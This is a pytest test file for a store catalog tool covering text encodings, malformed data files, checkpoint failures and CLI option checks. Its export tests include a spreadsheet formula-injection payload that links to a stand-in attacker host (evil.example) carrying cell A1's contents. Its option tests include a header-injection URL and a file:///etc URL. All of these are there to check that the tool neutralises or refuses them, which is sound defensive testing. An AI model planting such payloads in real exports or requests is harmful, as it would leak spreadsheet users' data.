"""Files a store makes or edits, read as stores make them: spreadsheet CSVs in Windows/Latin-1, label files, JSONL
sets of other tools, JSON with the wrong shapes, and the store's own schema, templates and suggested questions.
Every problem is one line naming the file, the line or field, and the fix; exports cannot carry a formula."""
import copy
import csv
import errno
import io
import json
import os
from pathlib import Path

import numpy as np
import pytest

from engine.errors import VitrineError
from engine.settings import Settings
from tests.helpers import run_cli
from tests.helpers import assert_one_line_error

# a byte neither UTF-8 nor cp1252 reads (cp1252 leaves 0x81 undefined)
UNREADABLE = b"\x81"


def _png(path: Path) -> Path:
    from PIL import Image
    Image.fromarray(np.full((8, 8, 3), 200, np.uint8)).save(path)
    return path


# ---- text in the encodings stores use ------------------------------------------------------------------------
def test_a_cp1252_catalog_csv_adds_with_its_accents(tmp_path, caplog):
    from engine.catalog.products_csv import read_products_csv
    _png(tmp_path / "a.png")
    text = "id;imagem;nome;cor\nP1;a.png;Calça jeans;azul-marinho\n"
    (tmp_path / "produtos.csv").write_bytes(text.encode("cp1252"))
    read = read_products_csv(tmp_path / "produtos.csv")
    assert [(p.id, p.title) for p in read.products] == [("P1", "Calça jeans")]
    assert "not UTF-8" in read.note and "cp1252" in read.note
    assert "not UTF-8" in caplog.text                     # said once, in the log too
    # UTF-8 (with a BOM, as Notepad saves) reads without a note
    (tmp_path / "produtos.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    read = read_products_csv(tmp_path / "produtos.csv")
    assert read.products[0].title == "Calça jeans" and read.note == ""


def test_a_cp1252_styles_csv_and_deepfashion_labels_build(tmp_path):
    from export.datasets.catalogs import read_catalog
    (tmp_path / "images").mkdir()
    _png(tmp_path / "images" / "7.jpg")
    styles = ("id,gender,masterCategory,subCategory,articleType,baseColour,season,year,usage,productDisplayName\n"
              "7,Women,Apparel,Bottomwear,Calça jeans,Azul,Summer,2012,Casual,Calça jeans, azul\n")
    (tmp_path / "styles.csv").write_bytes(styles.encode("cp1252"))
    read = read_catalog(tmp_path)
    assert [(p.id, p.items[0].garment) for p in read.products] == [("7", "Calça jeans")]


@pytest.mark.parametrize("layout", ["catalog", "styles", "labels", "jsonl", "generic"])
def test_bytes_no_encoding_reads_are_one_line_with_the_line_number(tmp_path, layout):
    from engine.catalog.products_csv import read_products_csv
    from engine.evaluation.qa_set import read_set
    from export.datasets.catalogs import read_catalog
    good = {"catalog": b"id,image\nP1,a.png\n", "styles": b"id,articleType,baseColour\n1,Shirts,Red\n",
            "labels": b"a.jpg 1 2 3\nb.jpg 1 2 3\n", "jsonl": b'{"image": "a.png", "question": "q", "answers": ["a"]}\n' * 2,
            "generic": b"image,colour\na.png,red\n"}[layout]
    data = good + b"x" * 3 + b"\xc3(" + UNREADABLE + b"\n"        # line 3 breaks UTF-8 and cp1252 both
    if layout == "labels":
        (tmp_path / "labels" / "shape").mkdir(parents=True)
        target = tmp_path / "labels" / "shape" / "shape_anno_all.txt"
    else:
        target = tmp_path / {"catalog": "c.csv", "styles": "styles.csv", "jsonl": "s.jsonl",
                             "generic": "g.csv"}[layout]
    target.write_bytes(data)
    read = {"catalog": lambda: read_products_csv(target), "styles": lambda: read_catalog(target),
            "labels": lambda: read_catalog(tmp_path), "jsonl": lambda: read_set(target),
            "generic": lambda: read_catalog(target, "csv", "image", ["colour"])}[layout]
    with pytest.raises(VitrineError) as e:
        read()
    message = str(e.value)
    assert "line 3" in message and target.name in message and "UTF-8" in message and "\n" not in message


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252"])
def test_the_line_named_is_where_the_file_stops_reading(encoding):
    """Mostly UTF-8 (Á is C3 81, which cp1252 cannot read) or mostly cp1252 (ç is no UTF-8): the bad byte's line."""
    from engine.text_files import decode_text
    data = "id,nome\n1,Ásia\n2,Calça\n".encode(encoding) + b"3,x\xc3(\x81\n"
    with pytest.raises(VitrineError, match="f.csv, line 4: the text is neither UTF-8 nor Windows/Latin-1"):
        decode_text(data, "f.csv")


def test_a_cp1252_question_set_and_mix_file_read(tmp_path):
    from engine.evaluation.qa_set import read_set
    line = {"image": "a.png", "question": "Qual é a cor da calça?", "answers": ["azul"], "lang": "pt"}
    (tmp_path / "mix.jsonl").write_bytes((json.dumps(line, ensure_ascii=False) + "\n").encode("cp1252"))
    assert read_set(tmp_path / "mix.jsonl").rows[0].question == "Qual é a cor da calça?"


@pytest.mark.parametrize("line, needle", [
    ('["a list"]', "line 2 is a list, not a JSON object"),
    ('{"image": "a.png", "question": 5, "answers": ["x"]}', '"question" is a whole number'),
    ('{"image": ["a.png"], "question": "q", "answers": ["x"]}', '"image" is a list'),
    ('{"image": "a.png", "question": "q", "answers": ["x"], "lang": {"pt": 1}}', '"lang" is an object'),
    ('{"image": "a.png", "question": "q", "answers": [1, 2]}', '"answers" must be a non-empty list'),
    ("[" * 5000 + "]" * 5000, "nests"),
])
def test_jsonl_lines_of_the_wrong_shape_are_one_line(tmp_path, line, needle):
    from engine.evaluation.qa_set import read_set
    first = '{"image": "a.png", "question": "q", "answers": ["x"]}'
    (tmp_path / "s.jsonl").write_text(first + "\n" + line + "\n", encoding="utf-8")
    with pytest.raises(VitrineError) as e:
        read_set(tmp_path / "s.jsonl")
    assert needle in str(e.value) and "line 2" in str(e.value) and "\n" not in str(e.value)


def test_parquet_of_the_wrong_shape_is_one_line(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    from engine.evaluation.qa_set import read_set
    path = tmp_path / "x.parquet"
    pq.write_table(pa.Table.from_pylist([{"image": {"bytes": b"\x89PNG", "path": "a"}, "qa": ["what?", "this"]}]),
                   path)
    with pytest.raises(VitrineError, match=r"x.parquet row 0: a \"qa\" entry is a text"):
        read_set(path)
    pq.write_table(pa.Table.from_pylist([{"picture": b"x", "question": "q"}]), path)
    with pytest.raises(VitrineError, match="needs \"image\""):
        read_set(path)


def test_run_files_of_the_wrong_shape_are_one_line(tmp_path):
    from export.training.run_file import KIND, RUN_FILE, read_run
    run = tmp_path / "run"
    run.mkdir()
    (run / RUN_FILE).write_text(json.dumps({"kind": KIND, "base": "b", "family": "f", "data": "d",
                                            "options": "lots", "step": 3}))
    with pytest.raises(VitrineError, match='"options" is a text'):
        read_run(run)
    (run / RUN_FILE).write_bytes(b'{"kind": "' + UNREADABLE + b'"}')
    with pytest.raises(VitrineError, match="line 1"):
        read_run(run)


def test_arguments_that_are_not_utf8_are_one_line():
    r = run_cli("describe", b"foto-cal\xe7a.png")       # Latin-1 bytes from a non-UTF-8 terminal
    assert_one_line_error(r, "not UTF-8", "cal")
    assert r.returncode == 2


# ---- the store's own schema, templates and questions --------------------------------------------------------
def _schema(change) -> dict:
    from engine.runtime.describe import ASSETS, SCHEMA_NAME
    schema = json.loads((ASSETS / SCHEMA_NAME).read_text(encoding="utf-8"))
    change(schema["properties"])
    return schema


@pytest.mark.parametrize("change, needles", [
    (lambda p: p["pattern"].__setitem__("enum", [1, 2, 3]), ["properties.pattern.enum", "1 is a whole number"]),
    (lambda p: p["pattern"].__setitem__("maxLength", "long"), ["properties.pattern.maxLength", "'long'"]),
    (lambda p: p["fit"].__setitem__("pattern", "^[a-z]+$"), ["properties.fit", "pattern cannot be constrained"]),
    (lambda p: p["category"]["x-pt-gender"].__setitem__("dress", "n"), ["x-pt-gender.dress", "'n'"]),
    (lambda p: p["colours"].__setitem__("maxItems", 500), ["properties.colours", "maxItems"]),
])
def test_a_store_schema_of_the_wrong_types_is_one_line(vitrine_home, change, needles):
    from engine.runtime.describe import AttributeSchema
    vitrine_home.mkdir(parents=True)
    (vitrine_home / "attributes.schema.json").write_text(json.dumps(_schema(change)), encoding="utf-8")
    with pytest.raises(VitrineError) as e:
        AttributeSchema.load(Settings.from_env())
    message = str(e.value)
    assert "attributes.schema.json" in message and "delete it" in message and "\n" not in message
    for n in needles:
        assert n in message


def test_a_template_naming_a_missing_field_is_one_line(vitrine_home):
    from engine.runtime.describe import load_templates
    vitrine_home.mkdir(parents=True)
    (vitrine_home / "descriptions.json").write_text(json.dumps({"default": ["{Noun} {colours}.",
                                                                            "Feito de {material}."]}))
    with pytest.raises(VitrineError, match=r"default, sentence 2: \{material\} is not a field of the schema"):
        load_templates(Settings.from_env())
    (vitrine_home / "descriptions.json").write_text(json.dumps({"default": ["{Noun} {colours"]}))
    with pytest.raises(VitrineError, match="sentence 1"):
        load_templates(Settings.from_env())
    # the store's own schema with a field the templates use: fine together
    (vitrine_home / "attributes.schema.json").write_text(json.dumps(_schema(
        lambda p: p.__setitem__("material", {"type": "string", "enum": ["cotton"], "x-pt": {"cotton": "algodão"}}))))
    (vitrine_home / "descriptions.json").write_text(json.dumps({"default": ["Feito de {material}."]}))
    assert load_templates(Settings.from_env())["default"] == ["Feito de {material}."]


def test_the_describe_command_says_a_broken_schema_in_one_line(vitrine_home, tmp_path):
    vitrine_home.mkdir(parents=True)
    (vitrine_home / "attributes.schema.json").write_text(json.dumps(_schema(
        lambda p: p["pattern"].__setitem__("enum", [1, 2]))))
    r = run_cli("describe", _png(tmp_path / "a.png"), "--model", tmp_path / "no-model",
                env={"VITRINE_HOME": str(vitrine_home)})
    assert_one_line_error(r, "properties.pattern.enum")


def test_broken_prompts_fall_back_to_the_bundled_ones_with_a_warning(vitrine_home):
    from engine.store_files import load_prompts, store_file_warnings
    assert store_file_warnings(Settings.from_env()) == []
    vitrine_home.mkdir(parents=True)
    (vitrine_home / "prompts.json").write_text(json.dumps({"pt": "Qual é a cor?"}))
    prompts, warning = load_prompts(Settings.from_env())
    assert prompts["pt"] and all(isinstance(q, str) for q in prompts["pt"])      # the bundled questions
    assert "prompts.json: pt:" in warning and "bundled questions are shown meanwhile" in warning
    (vitrine_home / "prompts.json").write_text(json.dumps({"pt": ["Qual é a cor da saia?"]}))
    assert load_prompts(Settings.from_env()) == ({"pt": ["Qual é a cor da saia?"]}, "")
    # the app's list: every problem at once, one line each
    (vitrine_home / "prompts.json").write_text("[1]")
    (vitrine_home / "descriptions.json").write_text(json.dumps({"default": ["{nada}"]}))
    warnings = store_file_warnings(Settings.from_env())
    assert len(warnings) == 2 and all("\n" not in w for w in warnings)
    assert "{nada}" in warnings[0] and "prompts.json" in warnings[1]


# ---- exports a spreadsheet opens ---------------------------------------------------------------------------------
def test_history_csv_export_neutralises_formulas(tmp_path):
    from engine.media.frames import Frame
    from engine.runtime.answer import Answer, Timings
    from engine.runtime.history import History
    h = History(tmp_path / "h.sqlite3")
    frame = Frame(np.full((40, 60, 3), 9, np.uint8), "/videos/loja.mp4", index=1, timestamp=0.04)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"clique")'
    for text in (evil, "+55 11 9999", "@SUM(1)", "-1+2", "\tTAB", "Calça azul"):
        h.add(Answer(question="Qual é a cor?", text=text, model="tiny", frame=frame.describe(), frame_key="k",
                     timings=Timings(ttft_s=0.1, decode_tok_s=50)), frame)
    h.export_csv(tmp_path / "out.csv")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        answers = [r["answer"] for r in csv.DictReader(f)]
    assert answers == ["'" + evil, "'+55 11 9999", "'@SUM(1)", "'-1+2", "'\tTAB", "Calça azul"]


def test_eval_answers_csv_neutralises_formulas(tmp_path):
    from engine.evaluation.evaluate import Record
    from engine.evaluation.report import _write_csv
    rec = Record(model="m", row="1", attribute="colour", lang="pt", question="=1+1", answers=["azul"],
                 prediction='=HYPERLINK("http://x")', scores={"vqa": 0.0, "exact": 0.0, "contains": 0.0, "f1": 0.0,
                                                          "levenshtein": 3, "anls": 0.0, "cosine": -0.25})
    _write_csv(tmp_path / "answers.csv", [rec])
    with open(tmp_path / "answers.csv", newline="", encoding="utf-8") as f:
        row = next(csv.DictReader(f))
    assert row["prediction"] == "'=HYPERLINK(\"http://x\")" and row["question"] == "'=1+1"
    assert row["cosine"] == "-0.25"                      # numbers stay numbers


# ---- a full disk while fine-tuning ------------------------------------------------------------------------------
@pytest.mark.parametrize("full", ["trainable.safetensors", "optimizer.pt", "state.json"])
def test_a_full_disk_during_a_checkpoint_is_the_documented_line(tmp_path, monkeypatch, full):
    """A checkpoint file leads to /dev/full, so the real torch.save and safetensors writers meet ENOSPC."""
    import contextlib

    import torch

    from export.training import checkpoints
    model = torch.nn.Linear(4, 4)
    optimizer = torch.optim.AdamW(model.parameters())
    model(torch.ones(1, 4)).sum().backward()
    optimizer.step()
    checkpoints.save_checkpoint(tmp_path, "step-000001", model, optimizer, {"step": 1, "since_best": 0})
    real = checkpoints.atomic_folder

    @contextlib.contextmanager
    def full_disk(dest, *args, **kw):
        with real(dest, *args, **kw) as staging:
            os.symlink("/dev/full", staging / full)
            yield staging

    monkeypatch.setattr(checkpoints, "atomic_folder", full_disk)     # where the checkpoint writer finds it
    with pytest.raises(VitrineError) as e:
        checkpoints.save_checkpoint(tmp_path, "step-000002", model, optimizer, {"step": 2, "since_best": 0})
    assert "checkpoint step-000002 was not saved (the previous one is intact)" in str(e.value)
    assert not (tmp_path / "checkpoints" / "step-000002").exists()
    assert (tmp_path / "checkpoints" / "step-000001" / checkpoints.TRAINABLE).stat().st_size > 0


# ---- the environment and options --------------------------------------------------------------------------------
def test_a_qt_platform_that_is_not_installed_is_one_line():
    pytest.importorskip("PySide6")
    r = run_cli("app", env={"QT_QPA_PLATFORM": "nonsense"}, timeout=60)
    assert_one_line_error(r, "QT_QPA_PLATFORM", "offscreen")
    assert r.returncode == 2


def test_a_hub_url_with_control_characters_is_one_line():
    r = run_cli("models", "pull", "smolvlm-256m", "--hub", "http://hub.example\r\nX-Evil: 1")
    assert_one_line_error(r, "--hub", "control character")
    r = run_cli("models", "pull", "smolvlm-256m", env={"VITRINE_HUB_URL": "file:///etc"})
    assert_one_line_error(r, "VITRINE_HUB_URL", "http")


@pytest.mark.parametrize("schema, needle", [({"type": "string", "maxLength": "long"}, "maxLength"),
                                            ({"type": "array", "items": {"type": "string"}, "maxItems": 2.5},
                                             "maxItems"),
                                            ({"type": "array", "minItems": -1}, "minItems")])
def test_the_decoder_refuses_counts_that_are_not_whole_numbers(schema, needle):
    """What a client's response_format may send: one line, not a ValueError from int()."""
    from engine.runtime.constrained import compile_schema
    with pytest.raises(VitrineError, match=f"{needle}.*whole number"):
        compile_schema(schema)
    assert compile_schema({"type": "string", "maxLength": 10.0}).max_length == 10
